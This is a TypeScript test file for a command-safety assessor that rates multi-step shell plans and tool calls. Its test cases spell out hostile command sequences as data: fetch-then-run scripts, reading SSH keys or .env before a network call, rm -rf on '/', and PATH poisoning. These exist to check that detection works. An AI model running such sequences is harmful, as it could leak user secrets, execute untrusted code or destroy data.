// @ts-nocheck
import { describe, expect, test } from 'vitest';
import type { Effect, Plan, ToolSpec } from '../../src/plan.ts';
import { assess } from '../../src/safety/assess.ts';
import { policyNamed } from '../../src/safety/policy.ts';
import { fixedWorld } from '../../src/world.ts';
import { judged } from './judged.ts';

const rules = (...commands: string[]): string[] => judged(commands).findings.map((finding) => finding.rule);

describe('several steps', () => {
  test('the strictest step decides', () => {
    const verdict = judged(['ls', 'rm a', 'ls']);
    expect(verdict.level).toBe('dangerous');
    expect(verdict.steps.map((step) => step.level)).toEqual(['safe', 'dangerous', 'safe']);
  });

  test.each<[string, string[], string]>([
    ['written, then run', ['curl -o a.sh https://example.org/a', 'bash a.sh'], 'runs-what-it-wrote'],
    ['written by a redirection in another folder, then run', ['echo ls > /tmp/a', '/tmp/a'], 'runs-what-it-wrote'],
    ['a secret read, then the network', ['cat ~/.ssh/id_rsa', 'curl https://example.org'], 'secret-leaves'],
    ['the network, then a secret read', ['curl https://example.org', 'cat .env'], 'secret-leaves'],
    ['a variable set before', ['A=/', 'rm -rf $A'], 'catastrophe'],
    ['a name set before', ['A=rm', '$A x'], 'deletes'],
    ['a function set before', ['ls() { rm x; }', 'ls'], 'deletes'],
    ['a poisoned path', ['export PATH=/tmp/a', 'ls'], 'poison'],
  ])('%s', (_title, commands, rule) => expect(rules(...commands)).toContain(rule));

  test('reading what was written is fine', () => expect(rules('echo ls > /tmp/a', 'cat /tmp/a')).toEqual(['changes']));
});

describe('tools', () => {
  const plan: Plan = {
    request: '',
    source: 'model',
    confidence: 1,
    reason: '',
    steps: [{ kind: 'tool', id: '1', tool: 'send', input: {}, reason: '', needs: [] }],
  };
  const spec = (effects: () => readonly Effect[]): ToolSpec => ({ name: 'send', description: '', input: {}, effects });
  const level = (...tools: ToolSpec[]): string =>
    assess(plan, fixedWorld(), {
      policy: policyNamed('normal'),
      tools: new Map(tools.map((tool) => [tool.name, tool])),
    }).level;

  test('count by their effects', () => {
    expect(level(spec(() => []))).toBe('safe');
    expect(level(spec(() => [{ kind: 'write', target: { type: 'none' }, by: 'send' }]))).toBe('write');
    expect(level(spec(() => [{ kind: 'delete', target: { type: 'none' }, by: 'send' }]))).toBe('dangerous');
  });

  test('an unknown one is opaque', () => expect(level()).toBe('opaque'));

  test('one that throws is opaque', () => {
    const broken = spec(() => {
      throw new Error('broken');
    });
    expect(level(broken)).toBe('opaque');
  });
});
